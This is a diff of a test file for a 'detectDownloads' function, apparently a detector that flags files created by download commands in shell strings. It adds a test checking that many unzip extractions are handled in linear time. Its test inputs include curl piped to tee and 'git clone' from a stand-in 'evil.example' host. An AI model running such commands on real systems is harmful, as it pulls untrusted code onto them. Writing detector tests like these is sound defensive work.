@@ -55,6 +55,19 @@ describe("detectDownloads", () => {
     expect(detectDownloads(`curl -s https://x.test/a | tee ${files.join(" ")}`)).toHaveLength(200_000);
   });
 
+  // Each extraction searched every target found before and every recorded file for its archive's
+  // name: 10,000 extractions after a tee of 10,000 held the event loop some 12 s.
+  it("reads many extractions against many targets in time linear in each", () => {
+    const files = Array.from({ length: 10_000 }, (_, i) => `f${i}`);
+    const extractions = "unzip n.zip -d out; ".repeat(10_000);
+    const started = performance.now();
+    expect(
+      detectDownloads(`curl -s https://x.test/a | tee ${files.join(" ")}; ${extractions}`, files),
+    ).toHaveLength(10_000);
+    expect(detectDownloads(`${extractions} unzip f9.zip -d out`, ["/ws/f9.zip"])).toEqual(["out/"]);
+    expect(performance.now() - started).toBeLessThan(3_000);
+  });
+
   it.each([
     ["git clone https://evil.example/x.git", ["x/"]],
     ["git clone --depth 1 -b main https://evil.example/x.git repo", ["repo/"]],
